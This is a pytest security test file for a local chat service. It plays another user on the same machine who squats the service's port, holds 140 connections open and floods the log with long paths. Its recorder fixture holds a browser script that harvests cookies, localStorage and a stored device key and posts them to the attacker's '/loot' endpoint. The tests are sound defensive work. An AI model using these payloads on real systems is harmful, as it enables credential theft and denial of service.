"""The owner's secret never leaves the owner, tried as another local user (`nobody`).

Each test is one finding of issue 33, made the way another user on the machine would make it:
a server of theirs on another loopback port and on the service's own port after it stopped
(Chromium as the owner's browser), a squatter holding the pid and port of a service killed
with -9, 140 connections held open without a secret, a flood of long paths into the log; and
(issue 36) a squatter on the port while a serve on a systemd-passed socket restarts.
Another user's programs run through `setpriv` as `nobody` from a world-readable folder with
the standard library only (`python -S`).
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from loopx_chat.goals.gate_store import GateStore
from loopx_chat.state.service_runtime import RUNTIME_FILE, read_secret
from tests.helpers.conditions import as_nobody_prefix
from tests.helpers.device import browser_sign_in, sign_in
from tests.helpers.serve_process import RunningService, chromium, free_port, start_service

pytestmark = pytest.mark.codex

# A server of another user: records every request (line and headers) it gets to a file, and
# answers with a page whose script reads what this origin's storage holds and sends it back.
RECORDER = r"""
import json, socket, sys, threading
port, out = int(sys.argv[1]), sys.argv[2]
PAGE = b'''<!doctype html><html><body><p id="done">...</p><script>
async function loot() {
  const found = {cookie: document.cookie, local: JSON.stringify(localStorage)};
  try {
    const db = await new Promise((ok, no) => { const r = indexedDB.open("loopx-chat", 1);
      r.onsuccess = () => ok(r.result); r.onerror = no;
      r.onupgradeneeded = () => r.result.createObjectStore("credential"); });
    const cred = await new Promise((ok) => { const g = db.transaction("credential")
      .objectStore("credential").get("device"); g.onsuccess = () => ok(g.result); });
    found.device = cred ? cred.id : null;
    if (cred) {
      found.extractable = String(cred.key.extractable);
      try { await crypto.subtle.exportKey("raw", cred.key); found.exported = "yes"; }
      catch (e) { found.exported = "no"; }
    }
  } catch (e) { found.error = String(e); }
  await fetch("/loot", {method: "POST", body: JSON.stringify(found)});
  document.getElementById("done").textContent = "done";
}
loot();
</script></body></html>'''
lock = threading.Lock()
def serve(conn):
    try:
        data = b""
        while b"\r\n\r\n" not in data:
            chunk = conn.recv(65536)
            if not chunk:
                return
            data += chunk
        head, _, body = data.partition(b"\r\n\r\n")
        lines = head.decode("latin-1").split("\r\n")
        headers = dict(l.split(":", 1) for l in lines[1:] if ":" in l)
        length = int(headers.get("Content-Length", headers.get("content-length", "0")).strip())
        while len(body) < length:
            body += conn.recv(65536)
        with lock, open(out, "a") as f:
            f.write(json.dumps({"line": lines[0], "headers": lines[1:],
                                "body": body.decode("latin-1")}) + "\n")
        reply = PAGE if lines[0].startswith("GET / ") or lines[0].startswith("GET /login") else (
            b'{"ok": true, "proof": "AAAA", "run_id": "squat", "server_time_ms": 0}')
        kind = b"text/html" if reply is PAGE else b"application/json"
        conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Type: " + kind + b"\r\nContent-Length: "
                     + str(len(reply)).encode() + b"\r\nConnection: close\r\n\r\n" + reply)
    except OSError:
        pass
    finally:
        conn.close()
srv = socket.socket()
srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
srv.bind(("127.0.0.1", port))
srv.listen(64)
print("listening", flush=True)
while True:
    c, _ = srv.accept()
    threading.Thread(target=serve, args=(c,), daemon=True).start()
"""

# Another user holding connections open: each sends `GET /healthz` now and then, keeps the
# connection if it can and opens a new one when it is closed, until `stop` exists.
HOLDER = r"""
import os, socket, sys, time
port, count, stop = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
request = b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nConnection: keep-alive\r\n\r\n" % port
def connect():
    s = socket.create_connection(("127.0.0.1", port), timeout=5)
    s.sendall(request)
    return s
conns = []
for _ in range(count):
    try:
        conns.append(connect())
    except OSError:
        conns.append(None)
print("holding", flush=True)
while not os.path.exists(stop):
    for i, s in enumerate(conns):
        try:
            if s is None:
                raise OSError
            s.sendall(request)
        except OSError:
            try:
                conns[i] = connect()
            except OSError:
                conns[i] = None
    time.sleep(8 if not os.path.exists(stop) else 0)
"""

# Another user flooding the log: requests whose path is 65,000 bytes, for `seconds`.
FLOOD = r"""
import socket, sys, time
port, seconds = int(sys.argv[1]), float(sys.argv[2])
path = b"/" + b"p" * 65000
end = time.monotonic() + seconds
sent = 0
while time.monotonic() < end:
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=5)
        s.sendall(b"GET " + path + b" HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n" % port)
        s.recv(65536)
        s.close()
        sent += 1
    except OSError:
        pass
print(sent)
"""

# Another user trying to take a port: a plain bind, then SO_REUSEADDR, then SO_REUSEPORT;
# prints its uid and what each attempt got ("bound" or the errno's name).
SQUAT = r"""
import errno, json, os, socket, sys
port = int(sys.argv[1])
tried = {"uid": os.getuid()}
for name, option in (("plain", None), ("reuseaddr", socket.SO_REUSEADDR),
                     ("reuseport", socket.SO_REUSEPORT)):
    s = socket.socket()
    try:
        if option is not None:
            s.setsockopt(socket.SOL_SOCKET, option, 1)
        s.bind(("127.0.0.1", port))
        s.listen(8)
        tried[name] = "bound"
    except OSError as exc:
        tried[name] = errno.errorcode.get(exc.errno, str(exc.errno))
    finally:
        s.close()
print(json.dumps(tried))
"""

# What systemd does for a socket unit's service: fd N becomes fd 3, LISTEN_PID is the pid
# that execs `serve` (the same pid), LISTEN_FDS=1. The listening socket stays the parent's.
AS_ACTIVATED = (
    "import os, sys; fd = int(sys.argv[1]); os.dup2(fd, 3); fd != 3 and os.close(fd); "
    "os.environ.update(LISTEN_PID=str(os.getpid()), LISTEN_FDS='1'); "
    "os.execv(sys.argv[2], sys.argv[2:])"
)

ARGS = ["--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"]


@pytest.fixture
def foreign() -> Iterator[Path]:
    """A world-readable folder for another user's programs and what they record."""
    base = Path(tempfile.mkdtemp(prefix="loopx-other-user-"))
    base.chmod(0o777)
    scripts = (
        ("recorder.py", RECORDER),
        ("holder.py", HOLDER),
        ("flood.py", FLOOD),
        ("squat.py", SQUAT),
    )
    for name, text in scripts:
        (base / name).write_text(text)
        (base / name).chmod(0o644)
    try:
        yield base
    finally:
        shutil.rmtree(base, ignore_errors=True)


def _as_nobody(base: Path, script: str, *args: str, wait: str | None = None) -> Any:
    prefix = as_nobody_prefix()
    python = getattr(sys, "_base_executable", sys.executable)
    proc = subprocess.Popen(
        [*prefix, python, "-S", str(base / script), *args],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    if wait is not None:
        assert proc.stdout is not None
        line = proc.stdout.readline()
        assert line.strip() == wait, (line, proc.stderr.read() if proc.poll() else "")
    return proc


def _cli(state: Path, home: Path, env: dict[str, str], *args: str) -> Any:
    return subprocess.run(
        [sys.executable, "-m", "loopx_chat", "--state-dir", str(state), *args],
        env={**env, "LOOPX_CHAT_CODEX_HOME": str(home)},
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )


def _recorded(path: Path) -> list[dict[str, Any]]:
    if not path.exists():
        return []
    return [json.loads(line) for line in path.read_text().splitlines() if line.strip()]


def _service(
    tmp_path: Path,
    bound_home: Path,
    base_env: dict[str, str],
    codex_bin: str,
    *args: str,
    port: int | None = None,
) -> RunningService:
    state = tmp_path / "state"
    if port is None:
        return start_service(
            state,
            bound_home,
            base_env,
            codex_bin,
            tmp_path / "serve.log",
            "--notify",
            "none",
            *args,
        )
    return start_service(
        state,
        bound_home,
        base_env,
        codex_bin,
        tmp_path / f"serve-{time.monotonic_ns()}.log",
        "--notify",
        "none",
        *args,
        port=port,
    )


def _nothing_authenticates(requests: list[dict[str, Any]], secrets: list[str]) -> None:
    for request in requests:
        text = json.dumps(request).lower()
        for name in ("cookie:", "authorization:", "x-loopx-signature:"):
            assert name not in text, request
        for secret in secrets:
            assert secret.lower() not in text, request


def test_no_other_port_and_no_squatter_after_a_stop_receives_anything_that_authenticates(
    tmp_path: Path, foreign: Path, bound_home: Path, base_env: dict[str, str], codex_bin: str
) -> None:
    from playwright.sync_api import sync_playwright

    GateStore(tmp_path / "state").request_gate("g-own", "Ship it?", actor="owner")
    service = _service(tmp_path, bound_home, base_env, codex_bin)
    secret = str(read_secret(service.state))
    other_port = free_port()
    elsewhere = foreign / "elsewhere.jsonl"
    squatted = foreign / "squatted.jsonl"
    recorder = _as_nobody(foreign, "recorder.py", str(other_port), str(elsewhere), wait="listening")
    squatter = None
    try:
        with sync_playwright() as pw:
            browser = pw.chromium.launch(executable_path=chromium(), args=ARGS)
            try:
                context = browser.new_context()
                page = context.new_page()
                browser_sign_in(page, service.port, secret, "desk")
                page.wait_for_selector("section.card")
                # 1a. The owner's browser follows a link to another user's port: that page
                # and its same-origin fetch receive nothing that authenticates.
                other = context.new_page()
                other.goto(f"http://127.0.0.1:{other_port}/")
                other.wait_for_function(
                    "() => document.getElementById('done')?.textContent === 'done'"
                )
                loot = [r for r in _recorded(elsewhere) if r["line"].startswith("POST /loot")]
                assert loot and json.loads(loot[0]["body"]).get("device") is None
                # 1b. The service stops; another user binds its port; the owner's open tab
                # retries and then reloads: the squatter gets no signature, no cookie, and
                # the key it finds in the origin's storage cannot be read out.
                service.stop()
                squatter = _as_nobody(
                    foreign, "recorder.py", str(service.port), str(squatted), wait="listening"
                )
                deadline = time.monotonic() + 60
                while not any("/api/auth/prove" in r["line"] for r in _recorded(squatted)):
                    assert time.monotonic() < deadline, "the page never tried the squatter"
                    time.sleep(0.2)
                page.reload()
                page.wait_for_function(
                    "() => document.getElementById('done')?.textContent === 'done'"
                )
                loot = [r for r in _recorded(squatted) if r["line"].startswith("POST /loot")]
                found = json.loads(loot[-1]["body"])
                assert found["device"] and found["extractable"] == "false"
                assert found["exported"] == "no" and found["cookie"] == ""
                assert secret not in found["local"]
            finally:
                browser.close()
    finally:
        for proc in (recorder, squatter):
            if proc is not None:
                subprocess.run([*as_nobody_prefix(), "kill", str(proc.pid)], check=False)
                proc.wait(timeout=30)
        service.stop()
    key_text = (service.state / "devices.json").read_text()
    keys = [d["key"] for d in json.loads(key_text)["devices"]]
    _nothing_authenticates(_recorded(elsewhere) + _recorded(squatted), [secret, *keys])
    assert _recorded(squatted), "the squatter was never reached: the test proved nothing"


def test_a_squatter_on_a_killed_services_pid_and_port_gets_no_byte_from_the_cli(
    tmp_path: Path, foreign: Path, bound_home: Path, base_env: dict[str, str], codex_bin: str
) -> None:
    service = _service(tmp_path, bound_home, base_env, codex_bin)
    secret = str(read_secret(service.state))
    service.proc.send_signal(signal.SIGKILL)
    service.proc.wait(timeout=30)
    # Another user binds the port and holds the pid `service.json` names (as if it had
    # forked until the kernel gave it that pid): both now look alive.
    record = foreign / "squatter.jsonl"
    squatter = _as_nobody(foreign, "recorder.py", str(service.port), str(record), wait="listening")
    try:
        runtime = json.loads((service.state / RUNTIME_FILE).read_text())
        runtime["pid"] = squatter.pid
        (service.state / RUNTIME_FILE).write_text(json.dumps(runtime))
        done = _cli(
            service.state,
            bound_home,
            base_env,
            "gate",
            "request",
            "--goal",
            "g-pid",
            "--question",
            "Still there?",
        )
    finally:
        subprocess.run([*as_nobody_prefix(), "kill", str(squatter.pid)], check=False)
        squatter.wait(timeout=30)
    assert done.returncode == 0, done.stderr
    assert "not using the service" in done.stderr and "stale" in done.stderr
    assert "Traceback" not in done.stderr
    assert _recorded(record) == []  # not one request, so not one secret
    assert GateStore(service.state).gates("g-pid")[0].question == "Still there?"
    assert secret  # the secret existed, and went nowhere


def test_another_user_holding_140_connections_does_not_shut_the_owner_out(
    tmp_path: Path, foreign: Path, bound_home: Path, base_env: dict[str, str], codex_bin: str
) -> None:
    service = _service(tmp_path, bound_home, base_env, codex_bin)
    secret = str(read_secret(service.state))
    device = sign_in(service.port, secret, "desk")
    stop = foreign / "stop"
    holder = _as_nobody(foreign, "holder.py", str(service.port), "140", str(stop), wait="holding")
    import http.client

    answers, took = [], []
    try:
        for _ in range(30):
            started = time.monotonic()
            conn = http.client.HTTPConnection("127.0.0.1", service.port, timeout=30)
            headers = {"Host": f"127.0.0.1:{service.port}", **device.headers("GET", "/api/page")}
            conn.request("GET", "/api/page", headers=headers)
            answers.append(conn.getresponse().status)
            conn.close()
            took.append(time.monotonic() - started)
        # A command the owner's CLI hands to the service: over its own socket.
        done = _cli(
            service.state,
            bound_home,
            base_env,
            "gate",
            "request",
            "--goal",
            "g-held",
            "--question",
            "Still yours?",
        )
    finally:
        stop.touch()
        subprocess.run([*as_nobody_prefix(), "kill", str(holder.pid)], check=False)
        holder.wait(timeout=30)
        service.stop()
    print(f"owner page p50 {sorted(took)[15] * 1000:.0f} ms, max {max(took) * 1000:.0f} ms")
    assert answers == [200] * 30
    assert done.returncode == 0 and "not using the service" not in done.stderr, done.stderr
    assert any("POST /api/goals/g-held/gates" in line for line in service.served())


def test_a_flood_of_long_unauthenticated_paths_barely_grows_the_log(
    tmp_path: Path, foreign: Path, bound_home: Path, base_env: dict[str, str], codex_bin: str
) -> None:
    service = _service(tmp_path, bound_home, base_env, codex_bin)
    before = service.log.stat().st_size
    flood = _as_nobody(foreign, "flood.py", str(service.port), "5")
    out, err = flood.communicate(timeout=120)
    service.stop()
    grown = service.log.stat().st_size - before
    assert int(out.strip()) > 50, err  # the flood really ran
    assert grown < 1 << 20, grown
    assert "ppppppppp" not in service.log.read_text(errors="replace")


def test_the_log_file_is_rotated_at_its_cap(
    tmp_path: Path, bound_home: Path, base_env: dict[str, str], codex_bin: str
) -> None:
    service = _service(tmp_path, bound_home, base_env, codex_bin, "--log-cap", "8192")
    import http.client

    try:
        secret = str(read_secret(service.state))
        for _ in range(400):
            conn = http.client.HTTPConnection("127.0.0.1", service.port, timeout=30)
            conn.request(
                "GET",
                "/api/chat/capabilities",
                headers={"Host": f"127.0.0.1:{service.port}", "Authorization": f"Bearer {secret}"},
            )
            conn.getresponse().read()
            conn.close()
    finally:
        service.stop()
    rotated = Path(str(service.log) + ".1")
    assert rotated.exists()
    assert service.log.stat().st_size < 8192 + 1024
    assert rotated.stat().st_size < 8192 + 1024
    assert os.stat(service.log).st_mode & 0o077 == 0


def _squat(foreign: Path, port: int) -> dict[str, Any]:
    done = _as_nobody(foreign, "squat.py", str(port))
    out, err = done.communicate(timeout=60)
    assert done.returncode == 0, err
    return dict(json.loads(out))


def _serve_on_passed_socket(
    listener: Any, state: Path, home: Path, env: dict[str, str], codex_bin: str, log: Path
) -> subprocess.Popen[bytes]:
    """`serve` started the way systemd starts it for `loopx-chat.socket`; ready once its
    service.json names it."""
    from loopx_chat.state.service_runtime import read_runtime

    port = str(listener.getsockname()[1])
    with log.open("wb") as err:
        proc = subprocess.Popen(
            [
                *(sys.executable, "-c", AS_ACTIVATED, str(listener.fileno()), sys.executable),
                *("-m", "loopx_chat", "--state-dir", str(state), "--codex-bin", codex_bin),
                *("serve", "--port", port, "--notify", "none"),
            ],
            env={**env, "LOOPX_CHAT_CODEX_HOME": str(home)},
            pass_fds=(listener.fileno(),),
            stdout=subprocess.DEVNULL,
            stderr=err,
        )
    deadline = time.monotonic() + 60
    while (runtime := read_runtime(state)) is None or runtime.pid != proc.pid:
        assert proc.poll() is None, log.read_text(errors="replace")[-2000:]
        assert time.monotonic() < deadline, "serve never wrote its service.json"
        time.sleep(0.05)
    return proc


def _healthz(conn: Any) -> bytes:
    conn.sendall(b"GET /healthz HTTP/1.0\r\nHost: 127.0.0.1\r\n\r\n")
    return bytes(conn.recv(64))


def test_no_squatter_binds_the_port_while_a_socket_activated_serve_restarts(
    tmp_path: Path, foreign: Path, bound_home: Path, base_env: dict[str, str], codex_bin: str
) -> None:
    """systemd (here: the test, the owner's process) holds `loopx-chat.socket`'s listening
    socket and passes it to each `serve`; when serve stops (SIGTERM, an upgrade) or dies
    (SIGKILL, `Restart=on-failure`), another user cannot bind the port in the gap, and the
    owner's connection made in the gap is answered by the next serve."""
    import socket

    state = tmp_path / "state"
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)  # as systemd sets it
    listener.bind(("127.0.0.1", 0))
    listener.listen(128)
    port = int(listener.getsockname()[1])
    refused = {"plain": "EADDRINUSE", "reuseaddr": "EADDRINUSE", "reuseport": "EADDRINUSE"}
    proc = None
    try:
        for round_, signum in enumerate((signal.SIGTERM, signal.SIGKILL)):
            log = tmp_path / f"serve-{round_}.log"
            proc = _serve_on_passed_socket(listener, state, bound_home, base_env, codex_bin, log)
            with socket.create_connection(("127.0.0.1", port), timeout=30) as conn:
                assert _healthz(conn).startswith(b"HTTP/1.1 200 ")
            assert f"listening on http://127.0.0.1:{port}/" in log.read_text(errors="replace")
            proc.send_signal(signum)
            proc.wait(timeout=60)
            proc = None
            # The gap: no serve runs. Another user cannot take the port...
            assert _squat(foreign, port) == {"uid": 65534, **refused}
            # ...and the owner's request waits in the socket's queue for the next serve.
            waiting = socket.create_connection(("127.0.0.1", port), timeout=5)
            waiting.settimeout(60)
            later = _serve_on_passed_socket(
                listener, state, bound_home, base_env, codex_bin, tmp_path / f"next-{round_}.log"
            )
            try:
                with waiting:
                    assert _healthz(waiting).startswith(b"HTTP/1.1 200 ")
                assert _squat(foreign, port) == {"uid": 65534, **refused}
            finally:
                later.terminate()
                later.wait(timeout=60)
    finally:
        if proc is not None:
            proc.kill()
            proc.wait(timeout=60)
        listener.close()
    # The control: once nobody holds the socket, the same squatter binds the port, so the
    # refusals above came from the held socket and not from the squatter script (with
    # SO_REUSEADDR: the connections the serves closed leave TIME_WAIT entries on the port).
    assert _squat(foreign, port)["reuseaddr"] == "bound"
